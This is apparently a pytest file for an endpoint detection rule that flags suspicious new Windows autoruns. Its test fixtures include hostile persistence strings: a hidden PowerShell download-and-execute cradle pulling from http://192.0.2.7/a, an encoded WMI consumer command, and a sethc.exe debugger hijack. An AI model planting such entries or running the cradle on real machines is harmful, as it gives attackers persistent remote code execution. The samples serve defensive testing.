"""Autoruns: suspicious new ones ring, the first service of a scan does not."""

from __future__ import annotations

import pytest

from tests.detect.behaviour.account_rows import DAY, tell
from tests.detect.behaviour.endpoint_rows import autorun, start
from tocsin.detect.behaviour import first_seen

FIRES = {
    "a shell as a service": autorun(0, "service", "kXqZwPlm", "%COMSPEC% /c echo x > \\\\.\\pipe\\x"),
    "a service in a temporary folder": autorun(0, "service", "Mise a jour", "C:\\Windows\\Temp\\a.exe"),
    "a service on a share of itself": autorun(0, "service", "x", "\\\\127.0.0.1\\ADMIN$\\x.exe"),
    "an imitation": autorun(0, "service", "svc", "C:\\ProgramData\\svchost.exe"),
    "a task that loads": autorun(
        0,
        "task",
        "\\maj",
        "powershell.exe -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
    ),
    "a run key with a script": autorun(
        0,
        "runkey",
        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
        "mshta.exe C:\\Users\\m\\AppData\\Local\\Temp\\x.hta",
    ),
    "a WMI consumer": autorun(0, "wmi", "Maintien", "Command Line: powershell.exe -enc aaaa"),
    "a debugger": autorun(
        0,
        "registry",
        "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        "cmd.exe",
    ),
}
QUIET = {
    "a service": autorun(0, "service", "LaboService", '"C:\\Program Files\\Labo\\labosvc.exe" -service'),
    "a driver": autorun(0, "driver", "labo.sys", "C:\\Windows\\System32\\drivers\\labo.sys"),
    "a task with a script": autorun(0, "task", "\\Exploitation\\purge", "powershell.exe -File C:\\Scripts\\purge.ps1"),
    "an updater in a profile": autorun(
        0,
        "runkey",
        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Teams",
        "C:\\Users\\m\\AppData\\Local\\Teams\\Update.exe --start",
    ),
    "an ordinary shell": autorun(0, "registry", "HKLM\\...\\Winlogon\\Shell", "explorer.exe"),
    "Windows' own consumer": autorun(0, "wmi", "SCM Event Log Consumer", "x"),
    "a name without a path": autorun(0, "task", "\\Microsoft\\Windows\\UpdateOrchestrator\\Reboot", ""),
}


@pytest.mark.parametrize("name", FIRES)
def test_fires(name: str) -> None:
    signs = tell(first_seen, [FIRES[name]])
    assert len(signs) == 1
    assert 0.8 <= signs[0].decades <= first_seen.MOST


@pytest.mark.parametrize("name", QUIET)
def test_quiet(name: str) -> None:
    assert tell(first_seen, [QUIET[name]]) == []


def test_what_a_tool_installs_everywhere_is_told_for_the_first_machines_only() -> None:
    rows = [autorun(n, "service", "deploy", "C:\\Windows\\Temp\\deploy.exe", host=f"pc-{n}") for n in range(100)]
    assert 1 <= len(tell(first_seen, rows)) <= 3


def test_the_same_thing_again_is_no_news() -> None:
    row = FIRES["a service in a temporary folder"]
    rows = [row._replace(time_us=row.time_us + n * DAY * 60_000_000) for n in range(9)]
    assert len(tell(first_seen, rows)) == 1


def test_new_programs() -> None:
    image = "C:\\Users\\Public\\kqzxvbnm.exe"
    assert len(tell(first_seen, [start(0, image, digest="SHA256=" + "ab" * 32)])) == 1
    assert tell(first_seen, [start(0, "C:\\Program Files\\Labo\\labo.exe", digest="SHA256=" + "cd" * 32)]) == []
    assert tell(first_seen, [start(0, "C:\\Users\\m\\Downloads\\lecteur.exe", digest="SHA256=" + "ef" * 32)]) == []
